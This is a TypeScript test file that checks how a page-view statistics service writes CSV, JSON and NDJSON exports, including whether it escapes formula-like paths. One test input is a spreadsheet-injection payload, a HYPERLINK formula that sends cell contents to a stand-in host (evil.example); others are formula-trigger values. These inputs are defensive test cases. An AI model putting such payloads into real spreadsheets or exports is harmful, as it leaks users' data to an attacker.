import fc from 'fast-check'
import { expect, test } from 'vitest'
import type { ViewRow } from '../../../../src/docs-service/schema.ts'
import {
  COLUMNS,
  COMPARED_COLUMNS,
  createFormat,
  EXTENSIONS,
  type Extension,
  type Format,
  type PartHeader,
} from '../../../../src/page-views/file/formats.ts'
import { counts, PREVIOUS_RANGE, RANGE, row } from '../example-result.ts'

const HEADER = { ...RANGE, totals: counts(3, 2) }
const LATER = { dateFrom: RANGE.dateTo, dateTo: '2026-11-30T00:00:00Z', totals: counts(1) }
const DATES = `${RANGE.dateFrom},${RANGE.dateTo}`
const HEADING = 'dateFrom,dateTo,path,human,ai,total'

/** Any code points. `unit: 'binary'` is the same, but takes seconds. */
const anyText = fc.string({ unit: fc.nat(0x10ffff).map((code) => String.fromCodePoint(code)) })

function write(extension: Extension, pages: ViewRow[][]): string {
  return writeAs(createFormat(extension, COLUMNS, false), [[HEADER, pages]])
}

function writeAs<Row>(format: Format<Row>, parts: [PartHeader, Row[][]][]) {
  const text = parts.map(([header, pages]) => {
    return format.beginPart(header) + pages.map((page) => format.rows(page)).join('') + format.endPart()
  })
  return text.join('') + format.end()
}

test('CSV: a header and lines that end in CRLF, each with its period', () => {
  expect(write('.csv', [[row('/a', 1, 2)], [], [row('/b', 0.5)]])).toBe(
    `${HEADING}\r\n${DATES},/a,1,2,3\r\n${DATES},/b,0.5,0,0.5\r\n`,
  )
  expect(write('.csv', [[]])).toBe(`${HEADING}\r\n`)
})

test('the parts of a series are one table in CSV and NDJSON, and an array in JSON', () => {
  const parts: [PartHeader, ViewRow[][]][] = [
    [HEADER, [[], [row('/a')], [], [row('/b')]]],
    [LATER, [[]]],
    [LATER, [[row('/a', 2)]]],
  ]
  const series = (extension: Extension) => writeAs(createFormat(extension, COLUMNS, true), parts)
  const later = `${LATER.dateFrom},${LATER.dateTo}`
  expect(series('.csv')).toBe(`${HEADING}\r\n${DATES},/a,1,0,1\r\n${DATES},/b,1,0,1\r\n${later},/a,2,0,2\r\n`)
  const lines = series('.ndjson').trimEnd().split('\n')
  expect(lines.map((line) => Object.values(JSON.parse(line)).slice(0, 4).join())).toEqual([
    `${DATES},/a,1`,
    `${DATES},/b,1`,
    `${later},/a,2`,
  ])
  expect(JSON.parse(series('.json'))).toEqual([
    { ...HEADER, views: [row('/a'), row('/b')] },
    { ...LATER, views: [] },
    { ...LATER, views: [row('/a', 2)] },
  ])
})

test.each([
  ['/a,b', '"/a,b"'],
  ['/say "hi"', '"/say ""hi"""'],
  ['/a\nb', '"/a\nb"'],
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("http://evil.example?"&A1,"x")', `"'=HYPERLINK(""http://evil.example?""&A1,""x"")"`],
  ['\t=1', `"'\t'=1"`],
  ['\u200b=1', "'\u200b=1"],
  ['\ufeff=1', "'\ufeff=1"],
  ['＝1', "'＝1"],
  ['/a;=1', `"/a;'=1"`],
  ['/a\t =1', `"/a\t '=1"`],
  ['/a\n@b=1', `"/a\n'@b=1"`],
])('CSV: the path %j is written as %j', (path, cell) => {
  expect(write('.csv', [[row(path)]])).toBe(`${HEADING}\r\n${DATES},${cell},1,0,1\r\n`)
})

test('CSV: any path is read back as one cell that no spreadsheet runs, however it splits cells', () => {
  const tricky = fc.string({ unit: fc.constantFrom(...'/a=+-@,"\'; \r\n\t＝＋－＠') })
  fc.assert(
    fc.property(fc.oneof(anyText, tricky), (path) => {
      const text = write('.csv', [[row(path)]])
      const [, record = [], ...rest] = splitCells(text, ',')
      const [from, to, cell = '', ...views] = record
      expect([from, to, ...views, rest]).toEqual([...DATES.split(','), '1', '0', '1', [['']]])
      expect(cell).toMatch(/^(?:[^=+\-@\t\r\n＝＋－＠]|$)/u)
      expect(cell.replaceAll("'", '')).toBe(path.replaceAll("'", ''))
      const others = [';', '\t'].flatMap((separator) => splitCells(text, separator).flat())
      for (const other of others) expect(other).toMatch(/^(?!\s*[=+@])/u)
    }),
    { numRuns: 500 },
  )
})

test('JSON: one object with dates, totals and views, also without a beginning and without rows', () => {
  const rows = [row('/"a\\\n\ud83d', 0.5, 1e21)]
  const json = JSON.parse(write('.json', [rows]))
  expect(json).toMatchObject({ ...HEADER, views: rows })
  expect(Object.keys(json)).toEqual(['dateFrom', 'dateTo', 'totals', 'views'])
  expect(JSON.parse(write('.ndjson', [rows]))).toMatchObject(rows[0] ?? {})
  const { dateFrom: _, ...header } = HEADER
  const text = writeAs(createFormat('.json', COLUMNS, false), [[header, [[]]]])
  expect(JSON.parse(text)).toEqual({ dateFrom: null, ...header, views: [] })
  const noBeginning = (extension: Extension) =>
    writeAs(createFormat(extension, COLUMNS, false), [[header, [[row('/a')]]]])
  expect(noBeginning('.csv')).toContain(`\r\n,${header.dateTo},/a,1`)
  expect(JSON.parse(noBeginning('.ndjson'))).toMatchObject({ dateFrom: null, dateTo: header.dateTo })
})

test('a comparison adds columns at the end, which are empty where the previous views are not known', () => {
  const rows = [
    { ...row('/a'), previous: counts(6, 4) },
    { ...row('/b'), previous: undefined },
  ]
  const previous = { ...PREVIOUS_RANGE, totals: HEADER.totals }
  const compared = (extension: Extension) =>
    writeAs(createFormat(extension, COMPARED_COLUMNS, false), [[{ ...HEADER, previous }, [rows]]])
  const columns = 'previousHuman,previousAi,previousTotal'
  expect(compared('.csv')).toBe(`${HEADING},${columns}\r\n${DATES},/a,1,0,1,6,4,10\r\n${DATES},/b,1,0,1,,,\r\n`)
  const [first = '', second = ''] = compared('.ndjson').split('\n')
  expect(Object.keys(JSON.parse(first)).join()).toBe(`${HEADING},${columns}`)
  expect(JSON.parse(second)).toMatchObject({ previousHuman: null, previousAi: null, previousTotal: null })
  const json = JSON.parse(compared('.json'))
  expect(Object.keys(json)).toEqual(['dateFrom', 'dateTo', 'totals', 'previous', 'views'])
  expect(json).toMatchObject({ ...HEADER, previous })
  expect(json.views[0]).toEqual({ ...row('/a'), previousHuman: 6, previousAi: 4, previousTotal: 10 })
})

test('no format contains unknown fields of a row', () => {
  const odd = { ...row('/a'), previous: 1, change: '=1+1\r\n=2+2' }
  for (const extension of EXTENSIONS) expect(write(extension, [[odd]])).toBe(write(extension, [[row('/a')]]))
})

/** As spreadsheets do: quotes count only at a cell's start, and text after the closing quote is kept. */
function splitCells(text: string, separator: string): string[][] {
  const lines: string[][] = [['']]
  const token = /(?<=^|[\r\n]|SEPARATOR)"((?:[^"]|"")*)"|SEPARATOR|\r\n|\r|\n|[\s\S]/.source
  const tokens = new RegExp(token.replaceAll('SEPARATOR', separator), 'g')
  for (const [all, quoted] of text.matchAll(tokens)) {
    const line = lines.at(-1) ?? []
    if (all === separator) line.push('')
    else if (/^[\r\n]+$/.test(all)) lines.push([''])
    else line[line.length - 1] += quoted?.replaceAll('""', '"') ?? all
  }
  return lines
}
